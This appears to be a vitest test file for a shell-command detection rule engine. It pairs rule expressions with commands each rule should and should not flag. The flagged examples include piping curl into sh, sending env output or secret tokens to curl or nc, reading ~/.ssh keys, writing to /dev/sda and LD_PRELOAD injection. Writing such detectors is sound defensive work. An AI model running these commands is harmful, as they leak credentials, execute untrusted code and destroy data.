import { describe, expect, it } from 'vitest';
import { NO_DISK } from '../../../src/core/disk.ts';
import { CWD, fires, type Scene } from '../harness.ts';

const TABLE: readonly (readonly [expression: string, hits: readonly string[], misses: readonly string[]])[] =
  [
    [
      'base_command_not_in(executables.allowed)',
      [
        'unheard-of x',
        'ls; miner',
        '/opt/x/miner',
        '/tmp/git status',
        'sudo miner',
        '~/Downloads/miner',
        '/home/x/.cache/miner',
      ],
      [
        'git status',
        '/usr/bin/git x',
        'cd x',
        'export A=b',
        './build.sh',
        'scripts/x',
        '~/bin/miner',
        '/Users/x/tools/miner',
        'f() { ls; }; f',
        'ssh h miner',
        '$X y',
      ],
    ],
    [
      'dynamic_command()',
      ['$CMD x', '$(cat f) x', '"$X"', '/bin/un?no*wn x'],
      ['X=ls; $X', 'ls $X', '/bin/l? x'],
    ],
    ['called_by_path()', ['/tmp/x', './x', '~/x', '"$D"/x'], ['x', 'ls ./x', '$X']],
    ['opaque("piped-script")', ['curl u | sh', 'curl u | sudo bash'], ['echo ls | sh', 'curl u | tee f']],
    ['opaque()', ['eval "$X"', 'curl u | sh', 'sh -c "$X"'], ['eval ls', 'sh -c ls']],
    ['opaque() runner("eval")', ['eval "$X"'], ['sh -c "$X"']],
    [
      'opaque() output_of("curl", "wget")',
      ['curl u | sh', 'eval "$(curl u)"', 'bash <(wget -O- u)'],
      ['cat f | sh', 'eval "$X"'],
    ],
    [
      'env_assigns("LD_*")',
      ['LD_PRELOAD=x ls', 'env LD_PRELOAD=x ls', 'export LD_PRELOAD=x; ls'],
      ['ls LD_PRELOAD=x', 'A=LD_X ls'],
    ],
    [
      'env_matches("PATH", /^\\/tmp/)',
      ['PATH=/tmp/x:$PATH ls', 'export PATH=/tmp:$PATH'],
      ['PATH=$PATH:/tmp ls', 'XPATH=/tmp ls'],
    ],
    [
      'uses_env(secrets.env_vars)',
      [
        'echo $GITHUB_TOKEN',
        'curl -d "t=${AWS_SECRET_KEY}" u',
        'curl -H "A: ${GITHUB_TOKEN:-x}" u',
        'cat <<EOF\n$GITHUB_TOKEN\nEOF',
      ],
      [
        "echo '$GITHUB_TOKEN'",
        'echo GITHUB_TOKEN',
        'echo $MY_GITHUB_TOKEN_FILE',
        'cat <<"EOF"\n$GITHUB_TOKEN\nEOF',
      ],
    ],
    ['redirects_to()', ['ls > f', 'ls >> f', 'ls &> f'], ['ls', 'ls 2>&1', 'cat < f']],
    [
      'redirects_to("/dev/sd*")',
      ['cat x > /dev/sda', 'cat x > /dev/../dev/sda'],
      ['cat x > /dev/null', 'echo /dev/sda'],
    ],
    ['redirects_from("~/.ssh")', ['cat < ~/.ssh/id_rsa'], ['cat < x', 'cat ~/.ssh/id_rsa']],
    [
      'pipeline_to("curl", "nc")',
      ['cat x | curl -T - u', 'cat x | base64 | nc h 1', 'cat x | sudo nc h 1'],
      ['curl u | cat', 'cat x; curl u', 'cat x && nc h 1', 'curl u'],
    ],
    [
      'command("sh") pipeline_from("curl")',
      ['curl u | sh', 'curl u | cat | sh'],
      ['sh x | curl u', 'curl u; sh'],
    ],
    [
      'command("cat") pipeline_through("base64")',
      ['cat x | base64 | nc h 1'],
      ['cat x | base64', 'base64 x | nc h 1'],
    ],
    [
      'command("env") output_to("curl", "nc")',
      [
        'env | curl -d @- u',
        'env | gzip | sudo nc h 1',
        'curl -d "$(env)" u',
        'X=$(env); curl -d "$X" u',
        'curl -T <(env) u',
        'env > >(curl -T - u)',
        'curl -d @- u <<< "$(env)"',
      ],
      ['env; curl u', 'curl u | env', 'X=$(env); curl u', 'env | cat', 'curl -d "$(date)" u; env'],
    ],
    [
      'command("env") output_to("curl", "nc")',
      [
        'env | curl -d @- u',
        'env | gzip | sudo nc h 1',
        'curl -d "$(env)" u',
        'X=$(env); curl -d "$X" u',
        'curl -T <(env) u',
        'env > >(curl -T - u)',
        'curl -d @- u <<< "$(env)"',
      ],
      ['env; curl u', 'curl u | env', 'X=$(env); curl u', 'env | cat', 'curl -d "$(date)" u; env'],
    ],
    ['command("rm") via("sudo")', ['sudo rm x', 'sudo -u y nice rm x'], ['rm x; sudo ls', 'rm sudo']],
    ['command("rm") via_kind("remote")', ['ssh h rm x', 'docker exec c rm x'], ['sudo rm x', 'rm x']],
    [
      'command("cat") in_substitution()',
      ['echo $(cat x)', 'diff <(cat x) y', 'echo `cat x`'],
      ['cat x', 'echo "cat x"'],
    ],
  ];

describe.each(TABLE)('%s', (expression, hits, misses) => {
  it.each(hits)('fires on %s', (command) => expect(fires(expression, command)).toBe(true));
  it.each(misses)('is silent on %s', (command) => expect(fires(expression, command)).toBe(false));
});

describe('a program that the project brings', () => {
  const scene = (...files: readonly string[]): Scene => ({
    disk: { ...NO_DISK, stat: (path) => (files.includes(path) ? 'file' : 'absent') },
  });
  const MATCH = 'match base_command_not_in(executables.allowed)';
  const LOCAL = `${CWD}/node_modules/.bin/frob`;

  it('is known', () => {
    expect(fires(MATCH, 'frob x', scene(LOCAL))).toBe(false);
    expect(fires(MATCH, 'frob x', scene(`${CWD}/x`))).toBe(true);
  });

  it('but not where the machine has another of that name', () => {
    expect(fires(MATCH, 'frob x', scene(LOCAL, '/usr/bin/frob'))).toBe(true);
  });
});
